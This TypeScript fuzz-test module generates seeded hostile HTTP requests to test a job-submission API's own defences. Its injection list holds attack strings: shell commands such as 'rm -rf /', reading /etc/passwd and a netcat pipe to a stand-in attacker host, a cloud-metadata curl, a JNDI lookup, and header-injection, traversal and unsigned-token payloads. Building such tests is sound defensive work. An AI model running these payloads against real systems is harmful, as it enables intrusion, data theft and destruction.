// Hostile HTTP requests, generated from a seeded PRNG so any failure reproduces from the printed seed and index.
// Each generator targets one way a client can misbehave; `generateHostileRequests` mixes them round-robin.

export interface HostileRequest {
  /** The generator that made it: failures and coverage are reported per category. */
  readonly category: string;
  readonly method: string;
  readonly path: string;
  /** Flat [name, value, name, value, ...]: repeated names are sent as repeated header lines. Values are latin1 on the wire. */
  readonly headers: string[];
  readonly body?: Buffer;
}

export interface FuzzContext {
  readonly random: () => number;
  /** Valid tokens: an analyst, an admin, an agent, a data scientist. */
  readonly tokens: { readonly analyst: string; readonly admin: string; readonly agent: string; readonly scientist: string };
  /** A job id the analyst owns, for the per-job routes. */
  readonly jobId: string;
  readonly issuer: string;
  /** Put in sensitive parameters: must never come back in an answer or a log line. */
  readonly sensitiveMarker: string;
}

type Gen = (ctx: FuzzContext, i: number) => HostileRequest;

const pick = <T>(r: () => number, items: readonly T[]): T => items[Math.floor(r() * items.length)]!;
const int = (r: () => number, min: number, max: number) => min + Math.floor(r() * (max - min + 1));
/** A JS string as UTF-8 bytes, as a latin1 string: how arbitrary bytes travel in a Node header value. */
const wire = (s: string) => Buffer.from(s, 'utf8').toString('latin1');
const json = (v: unknown) => Buffer.from(JSON.stringify(v), 'utf8');
/** A path segment; a lone surrogate (which encodeURIComponent refuses) goes out as its CESU-8 bytes. */
const segment = (s: string) =>
  s.replace(/[\ud800-\udbff][\udc00-\udfff]|[\ud800-\udfff]|[^\ud800-\udfff]+/g, (part) => (part.length === 1 && /[\ud800-\udfff]/.test(part) ? '%ED%A0%80' : encodeURIComponent(part)));
/** Header values cannot carry CR, LF or NUL on the wire (the client refuses them); the rest goes as raw UTF-8 bytes. */
const headerValue = (s: string) => wire(s.replace(/[\r\n\u0000]/g, ' '));
const bearer = (t: string) => `Bearer ${t}`;

const INJECTIONS: readonly string[] = [
  "' OR '1'='1",
  "1; DROP TABLE jobs;--",
  "\" OR \"\"=\"",
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd',
  '| nc attacker 4444',
  '&& curl http://169.254.169.254/latest/meta-data/',
  '{{date}}',
  '{{ __proto__ }}',
  '{{constructor.constructor("return process")()}}',
  '{{#each this}}{{/each}}',
  '${jndi:ldap://x/a}',
  '${process.env.AWS_SECRET_ACCESS_KEY}',
  '#{7*7}',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  'gs://other-bucket/../../secrets',
  'file:///etc/shadow',
  'line\r\nSet-Cookie: session=x',
  'x\r\n\r\n<html>',
  '%0d%0aLocation:%20http://evil',
  '<script>alert(1)</script>',
  '%s%s%s%n',
  '\u0000',
  'nul\u0000byte',
  '\ud800',
  'lone \udfff low',
  '\u202egnp.exe',
  'zero\u200bwidth',
  '\ufeffbom',
  '𝕳𝖊𝖑𝖑𝖔 🧨',
  'A'.repeat(300),
  '-1',
  '1e308',
  'NaN',
  'true',
  'null',
  '__proto__',
  'constructor',
  '--conf spark.driver.extraJavaOptions=-Dx=y',
];

const TEMPLATES = ['daily-sales-etl', 'customer-report-notebook', 'refresh-ml-features', 'churn-features-serverless', 'fuzz-freeform', 'fuzz-freeform-databricks'];

const WEIRD_VALUES: readonly unknown[] = [null, true, false, 0, -1, 1.5, 1e308, -0, '', ' ', [], [1, 2], {}, { a: 1 }, 'x'.repeat(5000), ...INJECTIONS.slice(0, 12)];

/** A JSON text nested `depth` levels deep, as an object or an array chain. */
function nested(depth: number, kind: 'object' | 'array'): string {
  return kind === 'array' ? `${'['.repeat(depth)}1${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

const submitHeaders = (ctx: FuzzContext, extra: string[] = []) => ['Authorization', bearer(ctx.tokens.analyst), 'Content-Type', 'application/json', ...extra];

const GENERATORS: Record<string, Gen> = {
  badJson: (ctx) => {
    const r = ctx.random;
    const bodies = [
      '{"template":',
      '{"template": "daily-sales-etl", "parameters": {"date": "2026-01-01",}}',
      "{'template': 'daily-sales-etl'}",
      '{"template": NaN}',
      '{"template": "x" /* comment */}',
      '\ufeff{"template":"daily-sales-etl","parameters":{"date":"2026-01-01"}}',
      '',
      'null',
      '[]',
      '42',
      '"just a string"',
      '<job><template>x</template></job>',
      '{"template":"daily-sales-etl"}{"template":"daily-sales-etl"}',
      '{"template":"daily-sales-etl","template":"refresh-ml-features","parameters":{"date":"2026-01-01"}}',
      '{"a":1}'.repeat(int(r, 2, 50)),
      'undefined',
      '{"template":"\\x41"}',
      '{"template":"\\u12"}',
    ];
    return { category: 'badJson', method: 'POST', path: pick(r, ['/jobs', '/jobs?dryRun=true', '/admin/revocations']), headers: submitHeaders(ctx), body: Buffer.from(pick(r, bodies), 'utf8') };
  },

  wrongTypes: (ctx) => {
    const r = ctx.random;
    const body: Record<string, unknown> = {
      template: r() < 0.5 ? pick(r, WEIRD_VALUES) : pick(r, TEMPLATES),
      parameters: r() < 0.5 ? pick(r, WEIRD_VALUES) : { date: pick(r, WEIRD_VALUES), shards: pick(r, WEIRD_VALUES), n: pick(r, WEIRD_VALUES) },
    };
    if (r() < 0.3) body[pick(r, ['extra', 'principal', 'status', 'id', 'backendRef'])] = pick(r, WEIRD_VALUES);
    if (r() < 0.2) delete body.template;
    return { category: 'wrongTypes', method: 'POST', path: '/jobs', headers: submitHeaders(ctx), body: json(body) };
  },

  hugeBodies: (ctx, i) => {
    const r = ctx.random;
    // Once in a while, past API Gateway's own 10 MB limit; otherwise around the configured 64 KiB.
    const size = i % 400 === 2 ? 10 * 1024 * 1024 + 1 : pick(r, [60 * 1024, 64 * 1024 + 1, 70 * 1024, 256 * 1024, 1024 * 1024]);
    const shape = pick(r, ['string', 'array', 'keys']);
    let body: Buffer;
    if (shape === 'string') body = json({ template: 'daily-sales-etl', parameters: { date: 'x'.repeat(size) } });
    else if (shape === 'array') body = Buffer.from(`{"template":"daily-sales-etl","parameters":{"date":[${'1,'.repeat(Math.floor(size / 2))}1]}}`, 'utf8');
    else body = Buffer.from(`{"template":"daily-sales-etl","parameters":{${Array.from({ length: Math.floor(size / 12) }, (_, k) => `"k${k}":1`).join(',')}}}`, 'utf8');
    return { category: 'hugeBodies', method: pick(r, ['POST', 'POST', 'GET']), path: pick(r, ['/jobs', '/jobs', '/admin/revocations']), headers: submitHeaders(ctx), body };
  },

  deepNesting: (ctx) => {
    const r = ctx.random;
    const depth = pick(r, [31, 32, 33, 64, 1000, 20000, 100000]);
    const inner = nested(depth, pick(r, ['object', 'array']));
    const body = pick(r, [`{"template":"daily-sales-etl","parameters":${inner}}`, `{"template":${inner}}`, inner, `{"template":"fuzz-freeform","parameters":{"argument":${inner}}}`]);
    return { category: 'deepNesting', method: 'POST', path: '/jobs', headers: submitHeaders(ctx), body: Buffer.from(body, 'utf8') };
  },

  unicode: (ctx) => {
    const r = ctx.random;
    const s = pick(r, ['\ud800', '\udc00x', 'a\u0000b', '\u0000', '\u202e', '\u200b\u200c\u200d', '\ufeff', '🧨🧨', 'é', 'İ', 'ß', '\u0085', '\u2028\u2029', '\uffff', '𝕏']);
    const where = pick(r, ['template', 'parameter', 'key', 'idempotency', 'rawBytes', 'path']);
    if (where === 'rawBytes') {
      // Bytes that are not UTF-8 at all: overlong encodings, lone continuation bytes, a truncated sequence.
      const bad = pick(r, [[0xc0, 0xaf], [0x80], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xe2, 0x82], [0xff, 0xfe]]);
      const body = Buffer.concat([Buffer.from('{"template":"fuzz-freeform","parameters":{"argument":"'), Buffer.from(bad), Buffer.from('"}}')]);
      return { category: 'unicode', method: 'POST', path: '/jobs', headers: submitHeaders(ctx), body };
    }
    if (where === 'idempotency') {
      return { category: 'unicode', method: 'POST', path: '/jobs', headers: submitHeaders(ctx, ['Idempotency-Key', headerValue(`k${s}`)]), body: json({ template: 'fuzz-freeform', parameters: { argument: 'x' } }) };
    }
    if (where === 'path') {
      return { category: 'unicode', method: pick(r, ['GET', 'POST']), path: `/${pick(r, ['jobs', 'templates'])}/${segment(s)}`, headers: ['Authorization', bearer(ctx.tokens.analyst)] };
    }
    const body =
      where === 'template'
        ? { template: `daily-sales-etl${s}`, parameters: { date: '2026-01-01' } }
        : where === 'key'
          ? { template: 'fuzz-freeform', parameters: { [`arg${s}`]: 'x' } }
          : { template: 'fuzz-freeform', parameters: { argument: `v${s}` } };
    // JSON.stringify escapes lone surrogates as \uXXXX; half the time send them raw, the way a sloppy client would.
    const text = r() < 0.5 ? JSON.stringify(body) : JSON.stringify(body).replace(/\\u(d[89ab][0-9a-f]{2})/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16)));
    return { category: 'unicode', method: 'POST', path: '/jobs', headers: submitHeaders(ctx), body: Buffer.from(text, 'utf8') };
  },

  prototypeKeys: (ctx) => {
    const r = ctx.random;
    const key = pick(r, ['__proto__', 'constructor', 'prototype', '__defineGetter__', 'hasOwnProperty', 'toString', 'valueOf']);
    const bodies = [
      `{"${key}":{"isAdmin":true},"template":"daily-sales-etl","parameters":{"date":"2026-01-01"}}`,
      `{"template":"daily-sales-etl","parameters":{"${key}":{"polluted":true},"date":"2026-01-01"}}`,
      `{"template":"fuzz-freeform","parameters":{"argument":"x","${key}":{"prototype":{"polluted":1}}}}`,
      `{"template":"${key}","parameters":{}}`,
      `{"issuer":"${ctx.issuer}","subject":"x","reason":"y","${key}":{"admin":true}}`,
      `{"template":"fuzz-freeform","parameters":{"argument":{"${key}":"x"}}}`,
    ];
    const body = pick(r, bodies);
    const path = body.startsWith('{"issuer"') ? '/admin/revocations' : '/jobs';
    return { category: 'prototypeKeys', method: 'POST', path, headers: ['Authorization', bearer(path === '/jobs' ? ctx.tokens.analyst : ctx.tokens.admin), 'Content-Type', 'application/json'], body: Buffer.from(body, 'utf8') };
  },

  injections: (ctx) => {
    const r = ctx.random;
    const attack = pick(r, INJECTIONS);
    const where = pick(r, ['freeform', 'freeformDatabricks', 'pattern', 'sensitive', 'query', 'pathId', 'idempotency', 'templatePath', 'revocation']);
    const h = submitHeaders(ctx);
    switch (where) {
      case 'freeform':
        return { category: 'injections', method: 'POST', path: pick(r, ['/jobs', '/jobs?dryRun=true']), headers: h, body: json({ template: 'fuzz-freeform', parameters: { argument: attack } }) };
      case 'freeformDatabricks':
        return { category: 'injections', method: 'POST', path: pick(r, ['/jobs', '/jobs?dryRun=true']), headers: h, body: json({ template: 'fuzz-freeform-databricks', parameters: { argument: attack } }) };
      case 'pattern':
        return { category: 'injections', method: 'POST', path: '/jobs', headers: h, body: json({ template: 'daily-sales-etl', parameters: { date: attack, shards: pick(r, [attack, 8]) } }) };
      case 'sensitive':
        return {
          category: 'injections',
          method: 'POST',
          path: pick(r, ['/jobs', '/jobs?dryRun=true']),
          headers: ['Authorization', bearer(ctx.tokens.analyst), 'Content-Type', 'application/json'],
          body: json({ template: 'customer-report-notebook', parameters: { customerId: pick(r, ['C1234567', attack]), recipientEmail: pick(r, [`${ctx.sensitiveMarker}@example.com`, `${ctx.sensitiveMarker}${attack}`]) } }),
        };
      case 'query': {
        const name = pick(r, ['limit', 'cursor', 'principal', 'dryRun', 'x']);
        const extra = r() < 0.3 ? `&${name}=${segment(attack)}` : '';
        return { category: 'injections', method: name === 'dryRun' ? 'POST' : 'GET', path: `/jobs?${name}=${segment(attack)}${extra}`, headers: h, body: name === 'dryRun' ? json({ template: 'fuzz-freeform', parameters: { argument: 'q' } }) : undefined };
      }
      case 'pathId':
        return { category: 'injections', method: pick(r, ['GET', 'POST']), path: `/jobs/${segment(attack)}${r() < 0.5 ? '/cancel' : ''}`, headers: ['Authorization', bearer(ctx.tokens.analyst)] };
      case 'idempotency': {
        return { category: 'injections', method: 'POST', path: '/jobs', headers: submitHeaders(ctx, ['Idempotency-Key', headerValue(attack)]), body: json({ template: 'fuzz-freeform', parameters: { argument: 'k' } }) };
      }
      case 'templatePath':
        return { category: 'injections', method: 'GET', path: `/templates/${segment(attack)}`, headers: ['Authorization', bearer(ctx.tokens.analyst)] };
      default:
        return {
          category: 'injections',
          method: pick(r, ['POST', 'DELETE']),
          path: r() < 0.5 ? '/admin/revocations' : `/admin/revocations/${segment(attack)}`,
          headers: ['Authorization', bearer(pick(r, [ctx.tokens.admin, ctx.tokens.analyst])), 'Content-Type', 'application/json'],
          body: json({ issuer: pick(r, [ctx.issuer, attack]), subject: attack, reason: attack }),
        };
    }
  },

  unknownTemplatesAndRoutes: (ctx) => {
    const r = ctx.random;
    if (r() < 0.4) {
      return { category: 'unknownTemplatesAndRoutes', method: 'POST', path: '/jobs', headers: submitHeaders(ctx), body: json({ template: pick(r, ['no-such-template', 'DAILY-SALES-ETL', 'daily-sales-etl ', '../templates/daily-sales-etl', '*', '', 'refresh-ml-features']), parameters: {} }) };
    }
    const path = pick(r, [
      '/',
      '/jobs/',
      '//jobs',
      '/jobs/x/y/z',
      '/JOBS',
      '/jobs%2fcancel',
      '/admin',
      '/admin/revocations/x/y',
      '/templates/',
      '/openapi.yaml',
      '/.env',
      '/../../etc/passwd',
      '/%2e%2e/%2e%2e/etc/passwd',
      '/jobs;jsessionid=1',
      '/jobs#fragment',
      `/${'a'.repeat(int(r, 100, 6000))}`,
      `/jobs/${ctx.jobId}/cancel/again`,
      `/jobs/${ctx.jobId}/../../admin/revocations`,
      '/stage/jobs',
      '/jobs?%',
    ]);
    return { category: 'unknownTemplatesAndRoutes', method: pick(r, ['GET', 'POST', 'DELETE', 'PUT']), path, headers: ['Authorization', bearer(ctx.tokens.analyst)] };
  },

  headerAbuse: (ctx) => {
    const r = ctx.random;
    const body = json({ template: 'fuzz-freeform', parameters: { argument: 'h' } });
    const t = ctx.tokens;
    const variants: (() => HostileRequest)[] = [
      () => ({ category: 'headerAbuse', method: 'POST', path: '/jobs', headers: ['Authorization', bearer(t.analyst), 'Authorization', bearer(t.admin), 'Content-Type', 'application/json'], body }),
      () => ({ category: 'headerAbuse', method: 'GET', path: '/admin/revocations', headers: ['Authorization', bearer(t.analyst), 'Authorization', bearer(t.admin)] }),
      () => ({ category: 'headerAbuse', method: 'GET', path: '/jobs', headers: ['Authorization', 'Bearer garbage', 'Authorization', bearer(t.analyst)] }),
      () => ({ category: 'headerAbuse', method: 'POST', path: '/jobs', headers: submitHeaders(ctx, ['Idempotency-Key', 'a', 'Idempotency-Key', 'b']), body }),
      () => ({ category: 'headerAbuse', method: 'POST', path: '/jobs', headers: ['Authorization', bearer(t.analyst), 'Content-Type', 'application/json', 'Content-Type', 'text/plain'], body }),
      () => ({ category: 'headerAbuse', method: 'POST', path: '/jobs', headers: ['Authorization', bearer(t.analyst), 'Content-Type', pick(r, ['text/plain', 'application/xml', 'multipart/form-data; boundary=x', 'application/json; charset=utf-7', 'application/x-www-form-urlencoded', '*/*', 'application/jsonx', ''])], body }),
      () => ({ category: 'headerAbuse', method: 'POST', path: '/jobs', headers: submitHeaders(ctx, ['Idempotency-Key', 'k'.repeat(int(r, 256, 8000))]), body }),
      () => ({ category: 'headerAbuse', method: 'POST', path: '/jobs', headers: submitHeaders(ctx, ['Idempotency-Key', pick(r, ['', ' ', 'has space', 'tab\there'])]), body }),
      () => ({ category: 'headerAbuse', method: 'GET', path: '/jobs', headers: ['Authorization', `Bearer ${'e'.repeat(int(r, 9000, 14000))}`] }),
      () => ({ category: 'headerAbuse', method: 'GET', path: '/jobs', headers: ['Authorization', pick(r, ['Bearer', 'Bearer ', 'Basic dXNlcjpwYXNz', `bearer  ${t.analyst}`, `Bearer ${t.analyst}.`, `Bearer ${t.analyst.split('.').slice(0, 2).join('.')}.`, `Bearer ${t.analyst.slice(0, -4)}AAAA`, 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.', `Token ${t.analyst}`, `Bearer ${t.analyst} ${t.admin}`])] }),
      () => ({ category: 'headerAbuse', method: 'GET', path: '/jobs', headers: ['Authorization', bearer(t.analyst), 'X-Forwarded-For', '127.0.0.1, 10.0.0.1', 'X-Amzn-Trace-Id', 'x'.repeat(2000), 'X-Forwarded-Proto', 'gopher', 'Host', 'evil.example'] }),
      () => ({ category: 'headerAbuse', method: 'GET', path: '/jobs', headers: ['Authorization', bearer(t.analyst), ...Array.from({ length: int(r, 50, 90) }, (_, k) => [`X-Pad-${k}`, 'p'.repeat(100)]).flat()] }),
      () => ({ category: 'headerAbuse', method: pick(r, ['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND', 'MKCOL', 'TRACE', 'HEAD']), path: pick(r, ['/jobs', `/jobs/${ctx.jobId}`, '/templates', '/admin/revocations', '/openapi.json']), headers: submitHeaders(ctx), body: r() < 0.5 ? body : undefined }),
      () => ({ category: 'headerAbuse', method: 'POST', path: `/jobs/${ctx.jobId}/cancel`, headers: ['Authorization', bearer(pick(r, [t.agent, t.scientist]))] }),
      () => ({ category: 'headerAbuse', method: 'POST', path: '/jobs', headers: ['Authorization', bearer(t.agent), 'Content-Type', 'application/json'], body: json({ template: pick(r, ['customer-report-notebook', 'daily-sales-etl']), parameters: { date: '2026-01-01' } }) }),
      () => ({ category: 'headerAbuse', method: 'POST', path: '/jobs', headers: ['Authorization', bearer(t.analyst), 'Content-Type', 'application/json', 'Content-Encoding', pick(r, ['gzip', 'br', 'identity'])], body }),
    ];
    return pick(r, variants)();
  },
};

export const CATEGORIES = Object.keys(GENERATORS);

/** `count` requests, the categories taken in turn so each gets its share whatever the seed. */
export function generateHostileRequests(ctx: FuzzContext, count: number): HostileRequest[] {
  return Array.from({ length: count }, (_, i) => GENERATORS[CATEGORIES[i % CATEGORIES.length]!]!(ctx, i));
}
